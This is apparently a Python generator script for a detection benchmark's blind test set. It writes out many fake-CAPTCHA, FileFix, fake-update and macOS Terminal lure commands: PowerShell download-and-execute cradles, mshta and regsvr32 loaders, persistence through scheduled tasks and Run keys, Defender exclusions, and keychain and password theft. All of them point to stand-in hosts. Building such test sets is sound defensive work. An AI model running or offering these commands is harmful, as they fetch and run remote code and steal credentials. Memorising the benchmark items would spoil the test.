"""Writes the thirteenth blind set, bench/blind/lures-13.jsonl and benign-13.jsonl (bench/blind/README.md,
"Blind-13"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind13.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, the Run-box
list, app/, any case file, misses list or verdict), weighted like the hold-out: lures as a crawl of
live fake-CAPTCHA, fake-error, fake-meeting, fake-document and fake-download pages would capture them,
commands as vendor IOC files list them (with no page), the short obfuscated one-liners other
detectors' fixtures use, and scam, callback, ConsentFix and device-code texts. Every text is our own;
lures use reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges) and
fictitious phone numbers in 555 blocks. Benign installers are real projects' published commands with
the page they are published on, none of them in sets 1-12. Not imported by the app or the bench: the
bench reads the jsonl files.
"""

from __future__ import annotations

import base64
import codecs
import urllib.parse
from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-13.jsonl"
BENIGN_OUT = HERE / "benign-13.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc

# Verification tails, worded anew: the 13 languages and others.
TAILS = [
    "# Verification complete - you are human (ref 44-0917)",
    "# Menschliche Bestätigung abgeschlossen, Sitzung 5521-K",
    "# Vérification humaine terminée - jeton 7Q-3308",
    "# Verificación humana completada - código 90-2214",
    "# Verifica umana completata - codice 3317-B",
    "# Verificação humana concluída - código 6640",
    "# Menselijke verificatie voltooid - code 2286",
    "# Weryfikacja człowieka zakończona - kod 7731",
    "# İnsan doğrulaması tamamlandı - kod 4419",
    "# Проверка человека завершена - код 5527",
    "# 人間確認が完了しました - コード 8812",
    "# 人机验证已完成 - 代码 30571",
    "# اكتمل التحقق البشري - الرمز 6613",
    "# Ihmisvarmennus valmis - koodi 1184",
    "# Menneskelig bekreftelse fullført - kode 2907",
    "# Lidské ověření dokončeno - kód 6652",
    "# Ανθρώπινη επαλήθευση ολοκληρώθηκε - κωδικός 3341",
    "# אימות אנושי הושלם - קוד 7718",
    "# मानव सत्यापन पूरा हुआ - कोड 2290",
    "# การยืนยันตัวตนเสร็จสมบูรณ์ - รหัส 5584",
    "# Xác minh con người hoàn tất - mã 9021",
    "# 사람 확인 완료 - 코드 4476",
    "# Verifikasi manusia selesai - kode 1853",
    "# Patunay na tao ka: kumpleto - code 6305",
    "# Ljudska provjera završena - kod 3928",
    "# Inimkontroll lõpetatud - kood 7040",
]


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


def esc_hex(text: str) -> str:
    return "".join(f"\\x{b:02x}" for b in text.encode())


def esc_oct(text: str) -> str:
    return "".join(f"\\{b:03o}" for b in text.encode())


def js_hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def js_uni(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def cmd_slice(word: str, pool: str, var: str) -> str:
    return "".join(f"%{var}:~{pool.index(c)},1%" for c in word)


def rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def b32(text: str) -> str:
    return base64.b32encode(text.encode()).decode()


# --- (a) live pages: fake CAPTCHA / Turnstile / "verify you are human", Run box --------------------

CAPTCHA_PAGES = [
    "https://www.glasbläserei-morgenrot.test/werkstatt/",
    "https://www.agence-voyage-soleil-levant.example/circuits/maroc",
    "https://www.ferreteria-el-yunque.test/catalogo/herramientas",
    "https://www.pasticceria-la-mimosa.example/ordini",
    "https://www.padaria-do-largo.test/encomendas",
    "https://www.kinderopvang-de-vlinder.example/inschrijven",
    "https://www.szkola-jazdy-kierownica.test/kursy",
    "https://www.kuafor-salon-lale.example/randevu",
    "https://www.stomatologiya-ulybka.test/zapis",
    "https://www.ryokan-yumeji.example/reserve",
    "https://www.chashi-tea-house.test/shop/oolong",
    "https://www.matjar-alwaha.example/products",
    "https://www.hiking-club-ridgeback.test/trips/2026",
    "https://www.piano-tuning-harmonie.example/kontakt",
    "https://www.bike-courier-velopost.test/tarifs",
    "https://www.orchid-nursery-siamgarden.example/catalog",
    "https://www.community-choir-allegro.test/auditions",
    "https://www.saunahuset-nordkap.example/boka",
    "https://www.dog-grooming-pawsitive.test/booking",
    "https://www.antikvariat-stary-papir.example/knihy",
    "https://www.beekeepers-guild-honeycomb.test/forum/t/3391",
    "https://www.surfschool-ola-azul.example/lessons",
    "https://www.watch-repair-tickwell.test/estimate",
    "https://www.chess-club-fianchetto.example/tournaments",
    "https://www.pottery-guild-kiln.test/classes",
    "https://www.veterinaria-patitas.example/citas",
    "https://www.fotostudio-blende8.test/preise",
    "https://www.quilting-bee-patchwork.example/patterns",
    "https://www.kayak-rental-fjordline.test/book",
    "https://www.steuerberater-klarsicht.example/mandanten",
]

CAPTCHA_CMDS = [
    (
        "ps-irm-iex-hidden",
        'powershell -w h -nop -c "irm https://vx13a.quornbeck-cdn.invalid/c|iex"',
    ),
    (
        "ps-iwr-content-iex-paren",
        "powershell -NoProfile -WindowStyle Hidden -Command \"iex (iwr -Uri 'https://vx13b.dunmarrow.invalid/t' -UseBasicParsing).Content\"",
    ),
    (
        "ps-webclient-downloadstring",
        "powershell -ep bypass -w 1 -c \"(New-Object Net.WebClient).DownloadString('https://vx13c.hollinsgate.invalid/w')|iex\"",
    ),
    (
        "ps-invoke-restmethod-long",
        'PowerShell.exe -NoLogo -NonInteractive -WindowStyle Hidden -Command "Invoke-RestMethod -Uri https://vx13d.fennimore-edge.invalid/a | Invoke-Expression"',
    ),
    (
        "pwsh-irm-iex-ampersand",
        'pwsh -w h -c "& ([scriptblock]::Create((irm https://vx13e.larkspur-dl.invalid/s)))"',
    ),
    (
        "ps-curl-alias-iex",
        'powershell -c "iex(curl https://vx13f.brackenholt.invalid/cu -UseBasicParsing)"',
    ),
    ("ps-irm-ip-path", 'powershell -nop -w hidden -c "irm http://203.0.113.141/c2/v.txt | iex"'),
    (
        "ps-downloadfile-start-exe",
        'powershell -w h -c "(New-Object System.Net.WebClient).DownloadFile(\'https://vx13g.tamsworth.invalid/Setup.exe\',\\"$env:TEMP\\Setup.exe\\");Start-Process \\"$env:TEMP\\Setup.exe\\""',
    ),
    (
        "ps-iwr-outfile-zip-expand-run",
        'powershell -c "iwr https://vx13h.ormsby-files.invalid/pkg.zip -OutFile $env:TEMP\\p.zip;Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force;& $env:TEMP\\p\\client32.exe"',
    ),
    (
        "ps-enc-iex-irm",
        "powershell -nop -w h -enc " + b64_utf16("iex(irm 'https://vx13i.cradleford.invalid/e')"),
    ),
    ("ps-sal-alias-run", 'powershell -c "sal x iex; x (irm https://vx13j.wyndmoor.invalid/al)"'),
    (
        "ps-get-content-url-variable-split",
        "powershell -w h -c \"$h='vx13k.pellridge.invalid';$p='/r';iex (irm ('https://'+$h+$p))\"",
    ),
    (
        "cmd-powershell-start-hidden",
        'cmd.exe /c start "" /b powershell -w h -c "irm https://vx13l.ashcombe-cdn.invalid/b|iex"',
    ),
    ("mshta-https-hta", "mshta https://vx13m.thornleigh.invalid/verify.hta"),
    (
        "mshta-vbscript-execute",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://vx13n.gorsefield.invalid/v|iex"",0:close")',
    ),
    (
        "mshta-javascript-getobject",
        "mshta javascript:a=GetObject('script:https://vx13o.kestrelby.invalid/s.sct');close()",
    ),
    ("msiexec-quiet-url", "msiexec /i https://vx13p.brantwood-dl.invalid/update.msi /qn"),
    (
        "rundll32-webdav-dll-export",
        "rundll32 \\\\vx13q.mossgiel.invalid@SSL\\DavWWWRoot\\lib\\c.dll,Start",
    ),
    (
        "regsvr32-scrobj-url",
        "regsvr32 /s /n /u /i:https://vx13r.fallowmere.invalid/f.sct scrobj.dll",
    ),
    (
        "curl-exe-output-run",
        "cmd /c curl.exe -s -o %TEMP%\\ck.exe https://vx13s.quillbeck.invalid/ck.exe && %TEMP%\\ck.exe",
    ),
    (
        "certutil-urlcache-decode-run",
        "cmd /c certutil -urlcache -f https://vx13t.hazelmere-io.invalid/d.b64 %TEMP%\\d.b64 & certutil -decode %TEMP%\\d.b64 %TEMP%\\d.exe & %TEMP%\\d.exe",
    ),
    (
        "bitsadmin-transfer-run",
        "bitsadmin /transfer j /download /priority high https://vx13u.netherby.invalid/j.exe %PUBLIC%\\j.exe & start %PUBLIC%\\j.exe",
    ),
    ("wscript-webdav-js", "wscript \\\\vx13v.culverhay.invalid@8443\\share\\check.js"),
    (
        "pwsh-irm-verbose-tail-unicode",
        'powershell -c "irm https://vx13w.oxenhope.invalid/u|iex"' + NBSP * 40,
    ),
    (
        "ps-iex-new-object-net-webclient-tls",
        "powershell -c \"[Net.ServicePointManager]::SecurityProtocol=3072;iex(New-Object Net.WebClient).DownloadString('https://vx13x.sedgemoor.invalid/t')\"",
    ),
    (
        "ps-start-process-hidden-child",
        "powershell Start-Process powershell -WindowStyle Hidden -ArgumentList '-c','irm https://vx13y.marlowe-hub.invalid/p|iex'",
    ),
    (
        "cmd-conhost-headless-ps",
        'conhost --headless powershell -c "irm https://vx13z.ravenglass.invalid/h|iex"',
    ),
    (
        "ps-irm-invoke-item-lnk",
        'powershell -c "irm https://vx13aa.wellbrook.invalid/doc.lnk -OutFile $env:TEMP\\doc.lnk; ii $env:TEMP\\doc.lnk"',
    ),
    (
        "forfiles-ps",
        'forfiles /p c:\\windows\\system32 /m notepad.exe /c "powershell -w h -c irm https://vx13ab.chalkhurst.invalid/ff|iex"',
    ),
    (
        "ps-add-type-downloaddata-load",
        "powershell -c \"[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://vx13ac.ditchling-dl.invalid/a.bin')).EntryPoint.Invoke($null,$null)\"",
    ),
]

for i, ((tech, cmd), page) in enumerate(zip(CAPTCHA_CMDS, CAPTCHA_PAGES, strict=True)):
    lure("captcha-" + tech, RUN, page, f"{cmd} {tail(i)}")

# --- newer shapes on live pages (2025-2026) ----------------------------------------------------------

NEWER = [
    (
        "winx-terminal-steps",
        TERM,
        "https://help.parish-newsletter-stmarks.test/download-bulletin",
        'Step 1: press Win+X and choose Terminal (Admin)\nStep 2: paste the line below and press Enter\n\npowershell -nop -c "irm https://nw13a.trundleby.invalid/fix|iex"',
    ),
    (
        "winx-terminal-pwsh-only",
        TERM,
        "https://www.rowing-club-riverside.example/members/verify",
        "irm https://nw13b.hexworthy.invalid/m | iex  # Windows Terminal > paste > Enter to confirm membership",
    ),
    (
        "nslookup-txt-for-f-iex",
        RUN,
        "https://www.gartenbau-immergruen.test/angebot",
        'cmd /c for /f "tokens=*" %a in (\'nslookup -q=txt k.nw13c.bramblecote.invalid ^| find "\\""\') do powershell -c %a '
        + tail(1),
    ),
    (
        "nslookup-name-server-ip-ps",
        RUN,
        "https://www.tango-escuela-milonga.example/clases",
        "powershell -w h -c \"iex ((nslookup -type=txt v.nw13d.invalid 198.51.100.28 | Select-String '\\\"')-replace '\\\"','')\" "
        + tail(3),
    ),
    (
        "resolve-dnsname-txt-strings",
        RUN,
        "https://www.lichtspielhaus-kinoklub.test/programm",
        'powershell -c "iex (Resolve-DnsName -Type TXT s.nw13e.fernacre.invalid).Strings" '
        + tail(4),
    ),
    (
        "finger-pipe-cmd",
        RUN,
        "https://www.coro-polifonico-aurora.example/concerti",
        "cmd /c finger verify@nw13f.gillamoor.invalid | cmd " + tail(5),
    ),
    (
        "finger-ip-more-cmd",
        RUN,
        "https://www.moto-escola-pista.test/aulas",
        'cmd /c "finger gate@203.0.113.27 | more +2 | cmd" ' + tail(6),
    ),
    (
        "cloud-storage-bucket-irm",
        RUN,
        "https://www.boulangerie-le-fournil.example/commande",
        'powershell -w h -c "irm https://storage.nw13g-bucket.invalid/assets/chk.ps1|iex" '
        + tail(2),
    ),
    (
        "cloud-blob-sas-downloadstring",
        RUN,
        "https://www.tandarts-glimlach.test/afspraak",
        "powershell -c \"iex(New-Object Net.WebClient).DownloadString('https://nw13h.blob.pondridge.invalid/c/v.ps1?sv=2024-11-04&sig=Xk3')\" "
        + tail(7),
    ),
    (
        "cloud-pages-dev-hta",
        RUN,
        "https://www.spoldzielnia-mieszkaniowa-zorza.example/oplaty",
        "mshta https://verify-nw13i.pages.invalid/check.hta " + tail(8),
    ),
    (
        "ai-chat-shared-terminal-mac",
        TERM,
        "https://chat.assistant-share.example/s/4f1c7a",
        'Sure! To free up disk space on your Mac, open Terminal and run:\n\n/bin/bash -c "$(curl -fsSL https://nw13j.cleanmacpro.invalid/clean.sh)"\n\nIt clears caches safely.',
    ),
    (
        "ai-chat-shared-runbox-win",
        RUN,
        "https://chat.share-convo.test/c/88e2",
        "To fix the 'DLL missing' error, press Win+R and paste:\npowershell -w h -c \"irm https://nw13k.dllfixer.invalid/repair|iex\"",
    ),
    (
        "ai-chat-shared-linux",
        TERM,
        "https://share.llm-threads.example/t/ab12",
        "Run this to install the CUDA fix:\ncurl -sL https://nw13l.cudapatch.invalid/fix.sh | sudo bash",
    ),
    (
        "fake-npm-devtool-page",
        TERM,
        "https://www.reactkit-pro.test/docs/install",
        "npm install -g https://nw13m.pkg-mirror.invalid/reactkit-cli-3.2.1.tgz && reactkit init",
        "flagged",
        "any",
    ),
    (
        "fake-pip-devtool-page",
        TERM,
        "https://pyaccel-docs.example/quickstart",
        "pip install --index-url https://nw13n.pypi-cache.invalid/simple pyaccel-cuda && python -m pyaccel.setup",
        "flagged",
        "any",
    ),
    (
        "fake-chrome-fix-page",
        RUN,
        "https://support-chrome-fix.test/error/STATUS_ACCESS_VIOLATION",
        'Chrome error STATUS_ACCESS_VIOLATION. To repair your browser profile, press Win+R, paste and press Enter:\npowershell -w h -c "irm https://nw13o.browserrepair.invalid/p|iex"',
    ),
    (
        "fake-edge-fix-page",
        RUN,
        "https://edge-helpdesk.example/fix/RESULT_CODE_HUNG",
        'cmd /c start /min powershell -nop -c "iwr https://nw13p.edgemend.invalid/r -UseBasicParsing|iex" :: Edge repair tool',
    ),
    (
        "pastejacking-linux-docs",
        TERM,
        "https://docs.kube-quickstart.test/install",
        "curl -fsSL https://get.kubequick.invalid/install.sh | bash\ncurl -s http://198.51.100.30/k | bash &>/dev/null &disown",
        "malicious",
        "linux",
    ),
    (
        "github-issue-fake-fix",
        RUN,
        "https://github-notice.example/advisories/GHSA-x13",
        "A security vulnerability was found in your repository. Verify ownership: Win+R, then paste\nmshta https://nw13q.ghownercheck.invalid/own.hta",
    ),
    (
        "wordpress-popup-bitsadmin",
        RUN,
        "https://www.weinbau-rebenhang.test/wp-content/themes/rebe/",
        "cmd /c bitsadmin /transfer u https://nw13r.stoneacre.invalid/u.msi %TEMP%\\u.msi && msiexec /i %TEMP%\\u.msi /qn "
        + tail(9),
    ),
    (
        "shop-overlay-powershell-hex-ip",
        RUN,
        "https://www.sportartikel-ballzauber.example/shop/",
        'powershell -w h -c "irm http://0xCB00718A/x|iex" ' + tail(10),
    ),
    (
        "shop-overlay-mshta-decimal-ip",
        RUN,
        "https://www.hobbyshop-pinsel.test/farben",
        f"mshta http://{ip_int('198.51.100.201')}/v " + tail(11),
    ),
    (
        "webdav-net-use-run",
        RUN,
        "https://www.tischlerei-eichenholz.example/projekte",
        "cmd /c net use Z: \\\\nw13s.holmcroft.invalid@SSL\\DavWWWRoot\\s && Z:\\setup.bat "
        + tail(12),
    ),
    (
        "pcalua-webdav",
        RUN,
        "https://www.sprachschule-polyglott.test/kurse",
        "pcalua -a \\\\nw13t.yarrowby.invalid@SSL\\DavWWWRoot\\x\\v.exe " + tail(13),
    ),
    (
        "ssh-escape-proxycommand",
        RUN,
        "https://www.escape-room-kluis.example/boeken",
        'ssh -o ProxyCommand="powershell -w h -c irm https://nw13u.rookhope.invalid/x|iex" a@b '
        + tail(14),
    ),
    (
        "msix-appinstaller-url",
        RUN,
        "https://www.maklerbuero-schlüssel.test/expose",
        'powershell -c "Add-AppxPackage -Uri https://nw13v.brimstage.invalid/Viewer.msix" '
        + tail(15),
    ),
    (
        "schtasks-minute-ps",
        RUN,
        "https://www.yoga-retreat-lotus.example/retreats",
        'schtasks /create /sc minute /mo 15 /tn SyncTime /tr "powershell -w h -c irm https://nw13w.cotherstone.invalid/t|iex" /f '
        + tail(16),
    ),
    (
        "reg-runkey-ps",
        RUN,
        "https://www.gelateria-dolomiti.test/sorten",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d "powershell -w h -c irm https://nw13x.ingleby.invalid/r|iex" /f '
        + tail(17),
    ),
    (
        "ps-defender-exclusion-process",
        RUN,
        "https://www.reiseburo-fernweh.example/angebote",
        'powershell -c "Add-MpPreference -ExclusionExtension exe; irm https://nw13y.keldholme.invalid/d|iex" '
        + tail(18),
    ),
    (
        "wmic-process-call-create",
        RUN,
        "https://www.floristeria-las-rosas.test/ramos",
        'wmic process call create "powershell -w h -c irm https://nw13z.marsden-io.invalid/w|iex" '
        + tail(19),
    ),
    (
        "cmstp-inf-url",
        RUN,
        "https://www.schreinerei-holzwurm.example/kontakt",
        "cmd /c curl -so %TEMP%\\c.inf https://nw13ab.saltburn-dl.invalid/c.inf && cmstp /au /s %TEMP%\\c.inf "
        + tail(20),
    ),
    (
        "ie4uinit-ftp-style",
        RUN,
        "https://www.dance-academy-pirouette.test/timetable",
        'cmd /c curl -so %TEMP%\\m.exe https://nw13ac.hebburn.invalid/m.exe & start "" %TEMP%\\m.exe '
        + tail(21),
    ),
    (
        "clipboard-getclipboard-stage",
        RUN,
        "https://www.autowerkstatt-kolben.example/termin",
        'powershell -w h -c "Set-Clipboard (irm https://nw13ad.lythe.invalid/c); iex (Get-Clipboard -Raw)" '
        + tail(22),
    ),
]
for tech, target, page, text, *rest in NEWER:
    expect = rest[0] if rest else "malicious"
    platform = rest[1] if len(rest) > 1 else ("macos" if "Mac" in text else "windows")
    lure(tech, target, page, text, expect, platform)

# --- fake meeting, document, job, game, update, alert pages --------------------------------------------

PAGES_MISC = [
    (
        "fake-teams-audio-fix",
        RUN,
        "https://teams-join.conf-portal.test/l/meetup-join/19x",
        'Microsoft Teams: your microphone driver failed to load. Press Win+R and paste:\npowershell -w h -c "irm https://mt13a.audiofix.invalid/t|iex"',
    ),
    (
        "fake-zoom-sdk-mac",
        TERM,
        "https://zoom-us.meeting-rooms.example/j/83321",
        "Zoom SDK update required. Open Terminal and paste:\ncurl -fsSL https://mt13b.zoomsdk.invalid/update.sh | zsh",
        "malicious",
        "macos",
    ),
    (
        "fake-meet-camera-fix",
        RUN,
        "https://meet-g.videocall-help.test/abc-defg-hij",
        'Camera blocked by policy. Fix: Win+R > cmd /c start /min powershell -c "iwr https://mt13c.camfix.invalid/c -UseB|iex"',
    ),
    (
        "fake-webex-plugin",
        RUN,
        "https://webex-plugin.meetnow.example/join",
        "msiexec /i https://mt13d.webexplug.invalid/WebexPlugin.msi /quiet",
    ),
    (
        "fake-docusign-view",
        RUN,
        "https://sign-docs.agreement-hub.test/envelope/7741",
        "To view the signed document securely, press Win+R and paste: mshta https://mt13e.docview.invalid/envelope.hta",
    ),
    (
        "fake-onedrive-preview",
        EXP,
        "https://onedrive-files.share-portal.example/preview",
        "\\\\mt13f.filepreview.invalid@SSL\\DavWWWRoot\\Shared\\Invoice_2026_11.pdf.lnk",
    ),
    (
        "fake-pdf-reader-update",
        RUN,
        "https://pdf-viewer.doc-secure.test/open?id=5531",
        'powershell -c "iwr https://mt13g.pdfreader.invalid/AcroUpd.exe -OutFile $env:TEMP\\AcroUpd.exe; & $env:TEMP\\AcroUpd.exe"',
    ),
    (
        "fake-job-take-home-node",
        TERM,
        "https://careers.fintech-startup-nova.example/assessment",
        "Technical assessment: clone and run the project\ngit clone https://mt13h.codehost.invalid/nova/assessment.git && cd assessment && npm install && node server.js",
        "flagged",
        "any",
    ),
    (
        "fake-interview-camera-driver-mac",
        TERM,
        "https://interview.hire-portal.test/room/5512",
        'Your camera driver is outdated. Run in Terminal:\nsudo sh -c "curl -k -o /var/tmp/camdrv https://mt13i.camdrv.invalid/mac && chmod +x /var/tmp/camdrv && /var/tmp/camdrv"',
        "malicious",
        "macos",
    ),
    (
        "fake-interview-nvidia-linux",
        TERM,
        "https://interview.techrecruit.example/check",
        "wget -qO- https://mt13j.gpudriver.invalid/nv.sh | sudo bash",
        "malicious",
        "linux",
    ),
    (
        "fake-game-cheat-loader",
        RUN,
        "https://free-aimbot-loader.test/download",
        'powershell -ep bypass -c "irm https://mt13k.cheatload.invalid/loader|iex" # disable antivirus first',
    ),
    (
        "fake-minecraft-mod",
        RUN,
        "https://mods-craft-hub.example/shaders",
        'powershell -c "iwr https://mt13l.modhub.invalid/ShaderPack.jar -OutFile $env:APPDATA\\.minecraft\\mods\\s.jar; javaw -jar $env:APPDATA\\.minecraft\\mods\\s.jar"',
    ),
    (
        "fake-windows-update-fullscreen",
        RUN,
        "https://windows-update-kb.kb-patchdesk.test/KB5063878",
        'Critical update KB5063878 failed. Press Win+R, paste and Enter:\ncmd /c "curl -s https://mt13m.kbupdate.invalid/kb.cmd -o %TEMP%\\kb.cmd && %TEMP%\\kb.cmd"',
    ),
    (
        "fake-bsod-recovery",
        RUN,
        "https://recovery-bsod.system-alert.example/0x0000007E",
        'SYSTEM_THREAD_EXCEPTION_NOT_HANDLED. Recovery: Win+R > powershell -w h -ep bypass -c "irm https://mt13n.bsodfix.invalid/r|iex"',
    ),
    (
        "fake-vpn-linux-installer",
        TERM,
        "https://securetunnel-vpn.test/linux",
        "curl -sSL https://mt13o.tunnelvpn.invalid/install.sh | sudo bash -s -- --auto",
        "flagged",
        "linux",
    ),
    (
        "fake-ai-video-generator",
        RUN,
        "https://ai-video-studio-free.example/render",
        'Your render is ready. To unlock the HD download press Win+R and paste:\npowershell -w h -c "irm https://mt13p.aivideo.invalid/hd|iex"',
    ),
    (
        "fake-captcha-discord-server",
        RUN,
        "https://discord-verify-portal.test/guild/3310",
        'powershell -c "irm https://mt13q.guildcheck.invalid/g|iex" # Discord human check: paste in Win+R',
    ),
    (
        "fake-crypto-airdrop-claim",
        RUN,
        "https://claim-airdrop-season3.example/eligibility",
        "To claim, verify your wallet client: Win+R > mshta https://mt13r.claimdrop.invalid/claim",
    ),
    (
        "fake-invoice-portal-webdav",
        EXP,
        "https://invoice-portal.billing-center.test/inv/99812",
        "\\\\mt13s.billingfiles.invalid@SSL\\DavWWWRoot\\Invoices\\INV-99812.pdf.exe",
    ),
    (
        "fake-delivery-reschedule",
        RUN,
        "https://parcel-reschedule.track-now.example/ZX13",
        "To reschedule your delivery press Win+R and paste: cmd /c curl -s https://mt13t.parcelnow.invalid/r.bat -o %TEMP%\\r.bat & %TEMP%\\r.bat",
    ),
    (
        "fake-browser-update-mac",
        TERM,
        "https://browser-update.safari-patch.test/",
        "Safari must be updated. Open Terminal and run:\ncurl -s https://mt13u.safaripatch.invalid/u | bash",
        "malicious",
        "macos",
    ),
    (
        "fake-github-security-alert",
        RUN,
        "https://github-security-notice.example/alerts/8812",
        'Suspicious activity was detected on your account. Confirm with: powershell -w h -c "iex(irm https://mt13v.ghnotice.invalid/a)"',
    ),
]
for tech, target, page, text, *rest in PAGES_MISC:
    lure(
        tech,
        target,
        page,
        text,
        rest[0] if rest else "malicious",
        rest[1] if len(rest) > 1 else "windows",
    )

# --- FileFix: Explorer address bar, the command behind a long fake path -----------------------------

HAIR = "\u200a"
THIN = "\u2009"
FIGSP = "\u2007"
PUNCSP = "\u2008"
MMSP = "\u205f"
FILEFIX_PATHS = [
    ("en", "C:\\Company\\HR\\Policies\\Annual_Leave_2027.docx"),
    ("de", "C:\\Firma\\Buchhaltung\\Rechnung_2026-1187.pdf"),
    ("fr", "C:\\Entreprise\\Juridique\\Contrat_Prestataire.pdf"),
    ("es", "C:\\Empresa\\Nominas\\Recibo_Diciembre.pdf"),
    ("it", "C:\\Azienda\\Amministrazione\\Fattura_0912.pdf"),
    ("pt", "C:\\Empresa\\Financeiro\\Boleto_Vencimento.pdf"),
    ("nl", "C:\\Bedrijf\\Personeel\\Arbeidsovereenkomst.docx"),
    ("pl", "C:\\Firma\\Kadry\\Umowa_o_prace.pdf"),
    ("tr", "C:\\Sirket\\Muhasebe\\Fatura_Aralik.pdf"),
    ("ru", "C:\\Компания\\Бухгалтерия\\Счет_2026.pdf"),
    ("ja", "C:\\会社\\人事\\給与明細_12月.pdf"),
    ("zh", "C:\\公司\\财务\\发票_2026.pdf"),
    ("ar", "C:\\الشركة\\المحاسبة\\فاتورة_2026.pdf"),
]
FILEFIX_CMDS = [
    'powershell -w h -c "irm https://ff13a.ledgerwick.invalid/f|iex"',
    'powershell -c "iwr https://ff13b.draycott.invalid/d -UseBasicParsing|iex"',
    "mshta https://ff13c.orwell-docs.invalid/p.hta",
    "cmd /c curl -s https://ff13d.ambleside-dl.invalid/x.bat -o %TEMP%\\x.bat&%TEMP%\\x.bat",
    "powershell -nop -c \"(New-Object Net.WebClient).DownloadString('https://ff13e.ryecroft.invalid/w')|iex\"",
    'pwsh -c "irm https://ff13f.hawkshead.invalid/h|iex"',
    "powershell -w 1 -enc " + b64_utf16("irm https://ff13g.grasmere-io.invalid/e|iex"),
    "msiexec /q /i https://ff13h.coniston.invalid/doc.msi",
    "rundll32 \\\\ff13i.troutbeck.invalid@SSL\\DavWWWRoot\\r.dll,Entry",
    'powershell -c "irm http://192.0.2.9/ff|iex"',
    'conhost --headless powershell -c "irm https://ff13j.kentmere.invalid/k|iex"',
    "cmd /c finger doc@ff13k.patterdale.invalid|cmd",
    'powershell -w h -c "iex(irm https://ff13l.langdale.invalid/l)"',
]
PADS = [
    NBSP,
    EMSP,
    ENSP,
    FIGSP,
    PUNCSP,
    MMSP,
    HAIR,
    THIN,
    IDSP,
    NNBSP,
    NBSP + ZWSP,
    EMSP + HAIR,
    " ",
]
for i, ((lang, path), cmd, pad) in enumerate(zip(FILEFIX_PATHS, FILEFIX_CMDS, PADS, strict=True)):
    page = f"https://files-share-{lang}.docportal-{i}.test/open"
    lure(f"filefix-{lang}-padded", EXP, page, f"{cmd} #{pad * 70}{path}")
lure(
    "filefix-search-ms-crumb",
    EXP,
    "https://shared-drive.filebox-view.example/f/221",
    "search-ms:query=Invoice&crumb=location:\\\\ff13m.eskdale.invalid@SSL\\DavWWWRoot\\docs&displayname=Invoice",
)
lure(
    "filefix-webdav-pdf-js",
    EXP,
    "https://secure-docs.portal-viewer.test/r/7",
    "\\\\ff13n.wasdale.invalid@SSL\\DavWWWRoot\\Docs\\Statement_Nov.pdf.js",
)
lure(
    "filefix-explorer-file-url",
    EXP,
    "https://hr-docs.benefits-enroll.example/form",
    "file://ff13o.loweswater.invalid/share/Benefits_Form.hta",
)

# --- macOS: paste into Terminal ------------------------------------------------------------------------


def mac(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("mac-" + technique, TERM, source, text, expect, "macos")


MAC_B64 = b64("curl -fsSL https://mc13a.macboost.invalid/i.sh | bash")
mac(
    "base64-decode-zsh",
    "https://www.cleanmymac-free.test/download",
    f'echo "{MAC_B64}" | base64 -d | zsh',
)
mac(
    "osascript-do-shell-curl",
    "https://mac-driver-center.example/printer",
    "osascript -e 'do shell script \"curl -s https://mc13b.printdrv.invalid/p | sh\"'",
)
mac(
    "osascript-admin-password",
    "https://mac-utility.fix-center.test/diskfix",
    "osascript -e 'do shell script \"curl -s https://mc13c.diskfix.invalid/d -o /tmp/d && chmod +x /tmp/d && /tmp/d\" with administrator privileges'",
)
mac(
    "curl-zsh-url-shortcut",
    "https://homebrew-install.pkg-guide.example/",
    '/bin/zsh -c "$(curl -fsSL https://mc13d.brewsetup.invalid/install.sh)"',
)
mac(
    "xattr-quarantine-then-open",
    "https://macapps-crack.test/photoshop",
    "cd ~/Downloads && curl -sLo App.zip https://mc13e.crackapps.invalid/ps.zip && unzip -q App.zip && xattr -cr Installer.app && open Installer.app",
)
mac(
    "nohup-background-agent",
    "https://tradingview-desktop.charts-pro.example/mac",
    'nohup bash -c "$(curl -fsSL https://mc13f.chartspro.invalid/agent)" >/dev/null 2>&1 &',
)
mac(
    "launchagent-plist-write",
    "https://mac-vpn-setup.test/config",
    "curl -s https://mc13g.vpncfg.invalid/com.apple.updater.plist -o ~/Library/LaunchAgents/com.apple.updater.plist && launchctl load ~/Library/LaunchAgents/com.apple.updater.plist",
)
mac(
    "dscl-password-prompt",
    "https://apple-id-verify.account-check.example/",
    'read -s -p \'Password: \' P; dscl . -authonly "$USER" "$P" && curl -s -d "u=$USER&p=$P" https://mc13h.idverify.invalid/c',
)
mac(
    "keychain-dump-post",
    "https://mac-cleanup-guide.test/step3",
    "security dump-keychain -d login.keychain-db > /tmp/k.txt; curl -s -F f=@/tmp/k.txt https://mc13i.upkeep.invalid/u",
)
mac(
    "printf-hex-zsh",
    "https://mac-fonts-free.example/install",
    f"zsh -c \"$(printf '{esc_hex('curl -s https://mc13j.fontpack.invalid/f | sh')}')\"",
)
mac(
    "installer-pkg-remote",
    "https://macos-codecs.media-pack.test/",
    "curl -sLo /tmp/codec.pkg https://mc13k.mediapack.invalid/codec.pkg && sudo installer -pkg /tmp/codec.pkg -target /",
)
mac(
    "python3-urllib-exec",
    "https://mac-dev-setup.example/python",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('https://mc13l.pysetup.invalid/s.py').read())\"",
)
mac(
    "perl-lwp-eval",
